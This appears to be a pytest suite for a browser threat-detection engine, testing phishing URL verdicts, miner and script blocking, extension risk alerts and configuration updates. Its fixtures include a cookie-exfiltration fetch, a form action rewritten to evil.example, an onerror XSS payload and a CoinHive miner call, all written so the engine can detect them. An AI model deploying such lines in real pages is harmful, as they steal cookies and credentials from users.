import asyncio
import json
import os

import pytest
from pydantic import ValidationError

from engine import ThreatDetectionEngine
from engine_config import EngineConfig
from fakes import FakeNotifier, FakePlatform, page
from profile_store import MemoryStore
from threat_models import BlockedScript, ExtensionInfo


PHISH = 'http://paypa1-secure-login.tk/verify?password=x'
EXAMPLE_PACK = os.path.join(os.path.dirname(__file__), '..', 'rules', 'example_rules.yaml')
FORM_REWRITE = 'form.action = "https://evil.example/collect"'


def make_engine(config=None, **collaborators):
    collaborators.setdefault('store', MemoryStore())
    return ThreatDetectionEngine(config or EngineConfig(), **collaborators)


def test_check_url_counts_threats():
    engine = make_engine()
    result = asyncio.run(engine.check_url(PHISH))
    assert result.verdict == 'malicious'

    asyncio.run(engine.check_url('https://example.org/'))
    stats = engine.get_stats()
    assert stats['threats_blocked'] == 1
    assert stats['recent_threats'][0]['url'] == result.url
    assert stats['recent_threats'][0]['kind'] == 'url'


def test_known_phishing_elevates_verdict(tmp_path):
    db_file = tmp_path / 'db.json'
    db_file.write_text(json.dumps(['https://innocent-looking.example/']))
    engine = make_engine(EngineConfig(threat_db_paths=[str(db_file)]))
    engine.threat_db.load(engine.config.threat_db_paths)

    result = asyncio.run(engine.check_url('https://innocent-looking.example/'))
    assert result.verdict == 'malicious'
    assert result.confidence == 0.95
    assert result.reason == 'Known phishing url: https://innocent-looking.example/'


def test_ml_anomaly_is_dispatched(model, notifier):
    engine = make_engine(model=model, notifier=notifier)
    asyncio.run(engine.check_url('http://login-check.tk/'))
    history = engine.dispatcher.get_history()
    assert [a.type for a in history] == ['ml-threat']
    assert notifier.sent[0].title == '🚨 Suspicious Website Detected'


def test_ml_can_be_switched_off(model):
    engine = make_engine(EngineConfig(ml_enabled=False), model=model)
    asyncio.run(engine.check_url('http://login-check.tk/'))
    assert model.calls == 0


def test_navigation_respects_enabled_and_allowlist():
    engine = make_engine(EngineConfig(allowlist=['intranet.example']))
    assert asyncio.run(engine.on_navigation('http://wiki.intranet.example/login')) is None
    assert asyncio.run(engine.on_navigation(PHISH)).verdict == 'malicious'

    engine.update_config({'enabled': False})
    assert asyncio.run(engine.on_navigation(PHISH)) is None


def test_page_complete_dispatches_behavior_anomaly(collector, notifier):
    engine = make_engine(collector=collector, notifier=notifier)
    normal = page(external=['https://cdn.shop.example/app.js'],
                  requests=[('api.shop.example', 'https://api.shop.example/cart')])
    collector.queue.extend([normal] * 5)
    for _ in range(5):
        assert asyncio.run(engine.on_page_complete('https://shop.example/')) is None

    collector.queue.append(page(
        external=['https://cdn.shop.example/app.js', 'https://coinhive.com/lib/coinhive.min.js'],
        requests=[('api.shop.example', 'https://api.shop.example/cart')],
        webgl=True,
    ))
    anomaly = asyncio.run(engine.on_page_complete('https://shop.example/'))
    assert anomaly.recommendation == 'block'
    assert asyncio.run(engine.dispatcher.get_blocked('shop.example'))['domain'] == 'shop.example'
    assert engine.get_stats()['anomalies_detected'] == 1


def test_analyze_script_records_blocks():
    engine = make_engine()
    result = engine.analyze_script('new CoinHive.Anonymous("k").start()', 'https://ads.example/m.js')
    assert result.should_block
    assert engine.get_stats()['scripts_blocked'] == 1
    assert engine.script_blocker.history[0].pattern == 'crypto-coinhive'


def test_script_blocked_from_page():
    engine = make_engine()
    record = BlockedScript(url='https://shop.example/', reason='eval() blocked: cookie access',
                           pattern='cookie access', content='document.cookie', severity='high', method='eval')
    engine.script_blocked(record)
    stats = engine.get_stats()
    assert stats['scripts_blocked'] == 1
    assert stats['recent_threats'][0]['kind'] == 'script'
    assert engine.script_blocker.history == [record]


def test_recent_threats_are_capped():
    engine = make_engine(EngineConfig(recent_threats_size=3))
    for i in range(5):
        asyncio.run(engine.check_url(f'http://bit.ly/{i}'))
    recent = engine.get_stats()['recent_threats']
    assert [r['url'] for r in recent] == ['http://bit.ly/4', 'http://bit.ly/3', 'http://bit.ly/2']


def test_update_config_propagates_to_blocker_and_guard():
    engine = make_engine()
    config = engine.update_config({'mode': 'strict', 'allowlist': ['trusted.example']})
    assert config['script']['mode'] == 'strict'
    assert engine.script_blocker.config.mode == 'strict'
    assert engine.guard.mode == 'strict'
    assert engine.script_blocker.config.allowlist == ['trusted.example']
    assert not engine.analyze_script('eval(x)', 'https://cdn.trusted.example/a.js').is_suspicious


def test_update_config_sections_and_validation():
    engine = make_engine()
    engine.update_config({'url': {'sensitivity_level': 'high'}})
    assert engine.url_analyzer.config.sensitivity_level == 'high'
    assert engine.config.url.block_threshold == 0.7

    with pytest.raises(ValidationError):
        engine.update_config({'mode': 'paranoid'})
    assert engine.config.script.mode == 'moderate'


def test_extension_events_dispatch(notifier):
    platform = FakePlatform()
    engine = make_engine(platform=platform, notifier=notifier)
    ext = ExtensionInfo(id='ext-1', name='Helper', version='1.0',
                        update_url='https://clients2.google.com/service/update2/crx')
    assert asyncio.run(engine.on_extension_installed(ext)) is None

    escalated = ext.model_copy(update={'host_permissions': ['<all_urls>']})
    anomaly = asyncio.run(engine.on_extension_enabled(escalated))
    assert anomaly.recommendation == 'uninstall'
    assert notifier.sent[-1].actions == ['Uninstall Now', 'Review Details']

    asyncio.run(engine.on_extension_uninstalled('ext-1'))
    assert engine.extensions.get_profile('ext-1') is None


def test_periodic_sweep_scans_extensions(notifier):
    ext = ExtensionInfo(id='ext-2', name='Coupons', version='3.1', permissions=['storage'])
    platform = FakePlatform([ext])
    engine = make_engine(platform=platform, notifier=notifier)

    assert asyncio.run(engine.run_periodic_sweep()) == []
    platform.extensions = [ext.model_copy(update={'version': '3.2'})]
    anomalies = asyncio.run(engine.run_periodic_sweep())
    assert [a.target_id for a in anomalies] == ['ext-2']
    assert engine.dispatcher.get_history()[0].target_id == 'ext-2'


def test_start_and_stop(tmp_path):
    db_file = tmp_path / 'db.json'
    db_file.write_text(json.dumps(['http://known-bad.example/']))
    engine = make_engine(EngineConfig(threat_db_paths=[str(db_file)]), platform=FakePlatform())

    async def lifecycle():
        await engine.start()
        running = engine._sweep_task is not None and not engine._sweep_task.done()
        await engine.stop()
        return running

    assert asyncio.run(lifecycle())
    assert engine._sweep_task is None
    assert engine.get_stats()['known_phishing_urls'] == 1


def test_update_config_reaches_every_component():
    engine = make_engine()
    engine.update_config({
        'behavior': {'anomaly_threshold': 9.0},
        'extensions': {'risk_increase_threshold': 40},
        'dispatcher': {'history_size': 5, 'message_max_length': 80},
    })
    assert engine.behavior.config.anomaly_threshold == 9.0
    assert engine.extensions.config.risk_increase_threshold == 40
    assert engine.dispatcher.config.message_max_length == 80
    assert engine.dispatcher._history.maxlen == 5

    engine.update_config({'ml_enabled': False})
    assert engine.ml is None
    engine.update_config({'ml_enabled': True})
    assert engine.ml is not None


def test_intercepted_code_is_counted():
    engine = make_engine()
    decision = engine.intercept_code('fetch("https://x.io/?c=" + document.cookie)', 'eval',
                                     'https://shop.example/')
    assert decision.blocked and decision.severity == 'critical'

    stats = engine.get_stats()
    assert stats['scripts_blocked'] == 1
    assert stats['recent_threats'][0]['kind'] == 'script'
    assert stats['recent_threats'][0]['url'] == 'https://shop.example/'
    assert len(engine.script_blocker.history) == 1


def test_intercepted_markup_is_counted():
    engine = make_engine()
    decision = engine.intercept_markup('<img src=x onerror=alert(1)>')
    assert decision.blocked
    assert decision.pattern == 'onerror handler'
    assert engine.get_stats()['scripts_blocked'] == 1

    assert not engine.intercept_markup('<b>hello</b>').blocked
    assert engine.get_stats()['scripts_blocked'] == 1


def test_rule_packs_from_config():
    assert not make_engine().analyze_script(FORM_REWRITE).is_suspicious

    engine = make_engine(EngineConfig(rule_packs=[EXAMPLE_PACK]))
    result = engine.analyze_script(FORM_REWRITE)
    assert result.should_block
    assert [r.id for r in result.matched_rules] == ['form-action-rewrite']
    assert engine.catalog.get('clipboard-hijack') is not None


def test_update_config_reloads_rule_packs():
    engine = make_engine()
    engine.update_config({'rule_packs': [EXAMPLE_PACK]})
    assert engine.script_blocker.catalog.get('form-action-rewrite') is not None
    assert engine.analyze_script(FORM_REWRITE).should_block

    engine.update_config({'rule_packs': []})
    assert engine.script_blocker.catalog.get('form-action-rewrite') is None


def test_uninstall_prompt_button_runs_action():
    platform = FakePlatform()
    notifier = FakeNotifier()
    engine = make_engine(platform=platform, notifier=notifier)
    ext = ExtensionInfo(id='ext-9', name='Grabber', version='1.0',
                        update_url='https://clients2.google.com/service/update2/crx')
    asyncio.run(engine.on_extension_installed(ext))
    anomaly = asyncio.run(engine.on_extension_enabled(
        ext.model_copy(update={'host_permissions': ['<all_urls>']})))
    assert anomaly.recommendation == 'uninstall'

    notification_id = f'notification-{len(notifier.sent)}'
    assert asyncio.run(engine.on_notification_action(notification_id, 0)) == 'uninstall'
    assert platform.uninstalled == ['ext-9']
    # each prompt is answered once
    assert asyncio.run(engine.on_notification_action(notification_id, 0)) is None


def test_block_record_lookup(collector):
    engine = make_engine(collector=collector)
    assert asyncio.run(engine.get_block_record('https://shop.example/')) is None

    collector.queue.extend([page(external=['https://cdn.shop.example/app.js'])] * 5)
    for _ in range(5):
        asyncio.run(engine.on_page_complete('https://shop.example/'))
    collector.queue.append(page(
        external=['https://cdn.shop.example/app.js', 'https://coinhive.com/lib/coinhive.min.js'],
        webgl=True,
    ))
    asyncio.run(engine.on_page_complete('https://shop.example/'))

    record = asyncio.run(engine.get_block_record('https://shop.example/checkout'))
    assert record['domain'] == 'shop.example'
    assert asyncio.run(engine.get_block_record('shop.example')) == record
